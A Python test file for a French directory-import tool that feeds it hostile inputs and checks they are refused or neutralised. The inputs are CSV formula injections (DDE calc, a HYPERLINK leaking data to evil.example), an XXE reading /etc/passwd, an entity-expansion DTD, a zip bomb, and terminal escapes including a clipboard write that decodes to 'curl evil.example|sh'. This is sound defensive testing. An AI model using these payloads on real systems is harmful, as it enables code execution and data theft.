"""Directory files a coordinator may receive from anyone: sheets that lie about their size,
formulas, damaged workbooks, DTDs, a stray quote, terminal escape sequences. Each is read within
bounds, reported in one French line, or made harmless."""

import asyncio
import csv
import io
import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook  # type: ignore[import-untyped]

from relay.app import Relay
from relay.channels.console import ConsoleChannel
from relay.directory.entries import Entry
from relay.directory.importing import (
    MAX_COLUMNS,
    MAX_FILE_BYTES,
    MAX_ROWS,
    DirectoryFileError,
    read_file,
)
from relay.messages import Platform, Reply, UserRef
from tests.directory_fixtures import CONFIG

SHEET = "xl/worksheets/sheet1.xml"
# What a terminal must never receive from directory data: C0 controls but newline, DEL, C1.
CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]")


def workbook(path: Path, rows: list[list[object]]) -> Path:
    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    book.save(path)
    return path


def patch_member(path: Path, member: str, change: "re.Pattern[str] | str", by: str) -> Path:
    """Rewrite one XML part of a workbook (a regular expression substitution)."""
    with zipfile.ZipFile(path) as source:
        parts = {info.filename: source.read(info) for info in source.infolist()}
    text = parts[member].decode("utf-8")
    patched = re.sub(change, by, text, count=1)
    assert patched != text, f"nothing to patch in {member}"
    parts[member] = patched.encode("utf-8")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in parts.items():
            target.writestr(name, content)
    return path


def claim_dimension(path: Path, ref: str) -> Path:
    return patch_member(path, SHEET, r'<dimension ref="[^"]*"\s*/>', f'<dimension ref="{ref}"/>')


def relay_cli(database_url: str, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "relay", *args],
        capture_output=True,
        text=True,
        env={**os.environ, "RELAY_DATABASE_URL": database_url, "RELAY_CONFIG_DIR": str(CONFIG)},
        timeout=120,
        check=False,
    )


def read_in_a_small_process(path: Path) -> subprocess.CompletedProcess[str]:
    """read_file in a child process allowed 700 MB of address space and 60 seconds."""
    script = (
        "import resource, sys\n"
        "from pathlib import Path\n"
        "from relay.directory.importing import read_file\n"
        "from relay.themes import ThemeCatalogue\n"
        f"themes = ThemeCatalogue.load(Path({str(CONFIG / 'themes.yaml')!r}))\n"
        "resource.setrlimit(resource.RLIMIT_AS, (700 * 2**20, 700 * 2**20))\n"
        "parsed = read_file(Path(sys.argv[1]), themes)\n"
        "print([e.name for _, e in parsed.entries])\n"
    )
    return subprocess.run(
        [sys.executable, "-c", script, str(path)],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )


# --- sheets that lie about their size ---


def test_a_sheet_claiming_a_million_rows_and_16384_columns_reads_its_rows(tmp_path: Path) -> None:
    """openpyxl pads every row, and every row missing in between, to the claimed width."""
    path = workbook(tmp_path / "a.xlsx", [["nom", "commune"], ["Centre A", "Pornic"], ["B", "Vue"]])
    claim_dimension(path, "A1:XFD1048576")
    last = MAX_ROWS - 1
    patch_member(
        path,
        SHEET,
        "</sheetData>",
        f'<row r="{last}"><c r="A{last}" t="inlineStr"><is><t>Centre Z</t></is></c></row>'
        "</sheetData>",
    )
    assert path.stat().st_size < 10_000
    result = read_in_a_small_process(path)
    assert result.returncode == 0, result.stderr[-2000:]
    assert result.stdout.strip() == "['Centre A', 'B', 'Centre Z']"


def test_a_sheet_claiming_fewer_rows_than_it_holds_loses_none(relay: Relay, tmp_path: Path) -> None:
    rows: list[list[object]] = [["nom", "commune"]]
    rows += [[f"Centre {n}", "Pornic"] for n in range(6)]
    path = claim_dimension(workbook(tmp_path / "a.xlsx", rows), "A1:A2")
    parsed = read_file(path, relay.themes)
    assert [e.name for _, e in parsed.entries] == [f"Centre {n}" for n in range(6)]


def test_rows_columns_and_size_have_limits(relay: Relay, tmp_path: Path) -> None:
    assert (MAX_ROWS, MAX_COLUMNS, MAX_FILE_BYTES) == (100_000, 100, 20 * 2**20)
    far = workbook(tmp_path / "far.xlsx", [["nom"], ["Centre A"]])
    patch_member(
        far,
        SHEET,
        "</sheetData>",
        f'<row r="{MAX_ROWS + 2}"><c r="A{MAX_ROWS + 2}" t="inlineStr"><is><t>x</t></is></c>'
        "</row></sheetData>",
    )
    with pytest.raises(DirectoryFileError, match="plus de 100 000 lignes"):
        read_file(far, relay.themes)
    many = tmp_path / "many.csv"
    many.write_text("nom\n" + "Centre\n" * (MAX_ROWS + 1), "utf-8")
    with pytest.raises(DirectoryFileError, match="plus de 100 000 lignes"):
        read_file(many, relay.themes)
    wide = workbook(tmp_path / "wide.xlsx", [["nom", *(f"c{n}" for n in range(MAX_COLUMNS))]])
    with pytest.raises(DirectoryFileError, match="plus de 100 colonnes"):
        read_file(wide, relay.themes)
    big = tmp_path / "big.csv"
    with big.open("w", encoding="utf-8") as f:
        f.write("nom,description\n")
        f.write(("Centre," + "x" * 1000 + "\n") * (MAX_FILE_BYTES // 1000 + 10))
    with pytest.raises(DirectoryFileError, match="dépasse 20 Mo"):
        read_file(big, relay.themes)


def test_a_workbook_that_unzips_beyond_200_mb_is_refused(relay: Relay, tmp_path: Path) -> None:
    path = workbook(tmp_path / "bomb.xlsx", [["nom"], ["Centre A"]])
    with (
        zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("xl/media/padding.bin", "w", force_zip64=True) as padding,
    ):
        chunk = bytes(2**20)
        for _ in range(210):
            padding.write(chunk)
    assert path.stat().st_size < 2 * 2**20
    with pytest.raises(DirectoryFileError, match="décompressé"):
        read_file(path, relay.themes)


# --- formulas ---

FORMULAS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "dde": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
}


def formula_file(path: Path) -> Path:
    with path.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(
            ["id", "nom", "description", "horaires", "telephone", "longitude", "latitude"]
        )
        writer.writerow(["f-1", "Centre A", FORMULAS["hyperlink"], FORMULAS["dde"], "", "", ""])
        writer.writerow(["f-2", FORMULAS["at"], FORMULAS["minus"], "", "+33 2 40 82 00 00", "", ""])
        writer.writerow(["f-3", "Centre C", "", "", "02 40 82 00 00", "-1.87", "47.1"])
    return path


async def test_formulas_are_exported_as_text(relay: Relay, tmp_path: Path) -> None:
    report = await relay.directory.import_file(formula_file(tmp_path / "in.csv"))
    assert report.parsed.problems == []
    entries = {e.ref: e for e in await relay.directory.entries()}
    assert entries["f-1"].description == FORMULAS["hyperlink"]  # stored as typed: text
    assert entries["f-2"].phone == "+33 2 40 82 00 00"

    exported = tmp_path / "out.csv"
    await relay.directory.export_file(exported)
    with exported.open(encoding="utf-8") as f:
        rows = {row["id"]: row for row in csv.DictReader(f)}
    assert rows["f-1"]["description"] == "'" + FORMULAS["hyperlink"]
    assert rows["f-1"]["horaires"] == "'" + FORMULAS["dde"]
    assert rows["f-2"]["nom"] == "'" + FORMULAS["at"]
    assert rows["f-2"]["description"] == "'" + FORMULAS["minus"]
    assert rows["f-2"]["telephone"] == "+33 2 40 82 00 00"  # a phone, not a formula: as is
    assert (rows["f-3"]["longitude"], rows["f-3"]["telephone"]) == ("-1.87", "02 40 82 00 00")

    book = tmp_path / "out.xlsx"
    await relay.directory.export_file(book)
    cells = [c for row in load_workbook(book).active.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert {str(c.value) for c in cells} >= set(FORMULAS.values())

    for path in (exported, book):  # the coordinator's round trip changes nothing
        again = await relay.directory.import_file(path)
        assert (again.added, again.updated, again.unchanged) == (0, 0, 3), path.name


async def test_an_entry_stored_unclean_is_exported_clean_and_never_as_a_formula(
    relay: Relay, tmp_path: Path
) -> None:
    """An entry an older version stored with control characters: a carriage return left in a
    .csv cell would end the line there and start the next one with a formula; an .xlsx cannot
    hold control characters at all. Both files come out as a fresh import would store it."""
    await relay.directory.import_entries(
        [
            Entry(
                name="Centre T" + ESCAPES["c1"],
                ref="t-1",
                description="\t=1+1",
                hours="lun\r" + FORMULAS["dde"],
                phone="\r" + FORMULAS["dde"],
            )
        ]
    )
    exported = tmp_path / "out.csv"
    await relay.directory.export_file(exported)
    with exported.open(encoding="utf-8", newline="") as f:
        [row] = list(csv.DictReader(f))
    assert (row["nom"], row["description"]) == ("Centre Trouge", "'=1+1")
    assert (row["horaires"], row["telephone"]) == ("lun " + FORMULAS["dde"], "'" + FORMULAS["dde"])
    assert not CONTROL.search(exported.read_text("utf-8").replace("\n", ""))

    book = tmp_path / "out.xlsx"
    await relay.directory.export_file(book)
    cells = [c for line in load_workbook(book).active.iter_rows() for c in line]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert {"=1+1", FORMULAS["dde"], "Centre Trouge"} <= {str(c.value) for c in cells}


def test_an_imported_formula_is_its_cached_value_never_evaluated(
    relay: Relay, tmp_path: Path
) -> None:
    path = workbook(tmp_path / "a.xlsx", [["nom", "description", "horaires"], ["Centre A", 1, 2]])
    patch_member(
        path,
        SHEET,
        r'<c r="B2"[^>]*>.*?</c>',
        '<c r="B2" t="str"><f>HYPERLINK("http://evil.example/?x="&amp;A1,"Cliquez")</f>'
        "<v>Cliquez</v></c>",
    )
    patch_member(path, SHEET, r'<c r="C2"[^>]*>.*?</c>', '<c r="C2"><f>1+1</f></c>')
    [(_, entry)] = read_file(path, relay.themes).entries
    assert (entry.description, entry.hours) == ("Cliquez", "")


# --- damaged workbooks, DTDs ---


def damaged_files(tmp_path: Path) -> dict[str, Path]:
    good = workbook(tmp_path / "good.xlsx", [["nom"], ["Centre A"], ["Centre B"]])
    content = good.read_bytes()
    not_a_zip = tmp_path / "pas-un-zip.xlsx"
    not_a_zip.write_bytes(b"nom\nCentre A\n")
    truncated = tmp_path / "tronque.xlsx"
    truncated.write_bytes(content[: len(content) // 2])
    corrupted = tmp_path / "abime.xlsx"
    with zipfile.ZipFile(good) as archive:
        info = archive.getinfo(SHEET)
    start = info.header_offset + 30 + len(info.filename) + len(info.extra)
    middle = start + info.compress_size // 2
    corrupted.write_bytes(content[:middle] + b"\xff" * 16 + content[middle + 16 :])
    dtd = workbook(tmp_path / "dtd.xlsx", [["nom"], ["Centre A"]])
    entities = '<!DOCTYPE worksheet [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
    patch_member(dtd, SHEET, r"(<\?xml[^>]*\?>)?", r"\g<1>" + entities)
    external = workbook(tmp_path / "externe.xlsx", [["nom"], ["Centre A"]])
    patch_member(
        external,
        "xl/sharedStrings.xml" if _has(external, "xl/sharedStrings.xml") else SHEET,
        r"(<\?xml[^>]*\?>)?",
        r'\g<1><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    )
    return {
        "not a zip": not_a_zip,
        "truncated": truncated,
        "corrupted": corrupted,
        "dtd": dtd,
        "external entity": external,
    }


def _has(path: Path, member: str) -> bool:
    with zipfile.ZipFile(path) as archive:
        return member in archive.namelist()


def test_damaged_workbooks_and_dtds_fail_in_one_french_line(
    database_url: str, tmp_path: Path
) -> None:
    for case, path in damaged_files(tmp_path).items():
        result = relay_cli(database_url, "directory", "import", str(path))
        assert result.returncode == 1, (case, result.stderr)
        assert result.stderr.count("\n") == 1, (case, result.stderr)
        assert result.stderr.startswith(f"relay : {path.name} : "), (case, result.stderr)
        assert "Traceback" not in result.stderr and result.stdout == "", case
    exported = tmp_path / "after.csv"
    assert relay_cli(database_url, "directory", "export", str(exported)).returncode == 0
    assert exported.read_text("utf-8").count("\n") == 1  # the header: nothing was written


# --- CSV ---


def test_a_stray_quote_is_reported_not_merged(relay: Relay, tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_text(
        "nom,commune,telephone,horaires\n"
        "Centre A,Pornic,02 40 00 00 01,lun\n"
        '"Centre Les Tilleuls,Pornic,02 40 00 00 02,mar\n'
        "Centre C,Legé,02 40 00 00 03,mer\n"
        "Centre D,Vue,02 40 00 00 04,jeu\n"
        'Centre E,Vue,"02 40 00 00 05",ven\n'  # the next quote closes the stray one
        "Centre F,Vue,02 40 00 00 06,sam\n",
        "utf-8",
    )
    parsed = read_file(path, relay.themes)
    assert [str(p) for p in parsed.problems] == [
        'ligne 3 : guillemet (") non refermé : les lignes 3 à 6 ont été lues comme une seule '
        "fiche ; ligne ignorée, corrigez le guillemet"
    ]
    assert [e.name for _, e in parsed.entries] == ["Centre A", "Centre F"]


def test_a_description_on_several_lines_is_not_a_stray_quote(relay: Relay, tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_text(
        "nom,description,commune\n"
        '"Centre A","Accueil, écoute.\nSur rendez-vous, le matin.",Pornic\n'
        "Centre B,,Vue\n",
        "utf-8",
    )
    parsed = read_file(path, relay.themes)
    assert parsed.problems == [] and [e.name for _, e in parsed.entries] == ["Centre A", "Centre B"]


# --- terminal escape sequences ---

ESCAPES = {
    "clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07",
    "hyperlink": "\x1b]8;;http://evil.example\x1b\\Cliquez\x1b]8;;\x1b\\",
    "c1": "\x9b31mrouge\x9b0m",
    "bidi": "\u202etxt.exe",
}


async def test_control_characters_are_dropped_at_import(relay: Relay, tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    with path.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["id", "nom", "description", "horaires", "telephone"])
        writer.writerow(
            [
                "e-1",
                "Psychologue " + ESCAPES["c1"],
                ESCAPES["clipboard"] + "Écoute\n\tsuivi",
                ESCAPES["hyperlink"],
                "02 40 82 00 00" + ESCAPES["bidi"],
            ]
        )
    report = await relay.directory.import_file(path)
    assert report.parsed.problems == []
    [entry] = await relay.directory.entries()
    for value in (entry.name, entry.description, entry.hours, entry.phone):
        assert not CONTROL.search(value) and "\u202e" not in value, repr(value)
    assert entry.description.endswith("Écoute\nsuivi")
    assert "Cliquez" in entry.hours


def hostile_entry() -> Entry:
    """An entry as an old version of relay may have stored it, escapes and all."""
    return Entry(
        name="Cabinet de psychologie " + ESCAPES["c1"],
        ref="old-1",
        category="Psychologue",
        address=ESCAPES["clipboard"] + "1 rue du Port",
        postal_code="44210",
        commune="Pornic",
        phone="02 40 82 00 00" + ESCAPES["bidi"],
        website=ESCAPES["hyperlink"],
        hours="lun\x07-ven\x7f 9h-17h",  # PostgreSQL refuses NUL: it cannot be stored
    )


async def test_the_console_shows_no_control_character(relay: Relay) -> None:
    await relay.directory.import_entries([hostile_entry()])
    answer = await relay.directory.ask("psychologue à Pornic", "console", log_query=False)
    assert answer.results, "the hostile entry answers"
    out = io.StringIO()
    user = UserRef(Platform.CONSOLE, "console")
    channel = ConsoleChannel(user, stdin=io.StringIO(), stdout=out)
    from relay.directory.answers import reply

    await channel.send(channel.chat, reply(answer))
    await channel.send(channel.chat, Reply("a\x1b[2Jb\tc\nd", buttons=()))
    shown = out.getvalue()
    assert "Cabinet de psychologie" in shown and "1 rue du Port" in shown
    assert not CONTROL.search(shown.replace("\n", "")), repr(shown)
    assert "\u202e" not in shown


async def test_relay_ask_and_relay_chat_print_no_control_character(
    relay: Relay, database_url: str
) -> None:
    await relay.directory.import_entries([hostile_entry()])
    runs = [
        asyncio.to_thread(relay_cli, database_url, "ask", "psychologue à Pornic"),
        asyncio.to_thread(relay_cli, database_url, "ask", "--json", "psychologue à Pornic"),
        asyncio.to_thread(chat_cli, database_url, "psychologue à Pornic\n"),
    ]
    for result in [await run for run in runs]:
        assert result.returncode == 0, result.stderr
        assert "Cabinet de psychologie" in result.stdout
        assert not CONTROL.search(result.stdout.replace("\n", "")), repr(result.stdout)


def chat_cli(database_url: str, script: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "relay", "chat"],
        input=script,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
        env={**os.environ, "RELAY_DATABASE_URL": database_url, "RELAY_CONFIG_DIR": str(CONFIG)},
    )
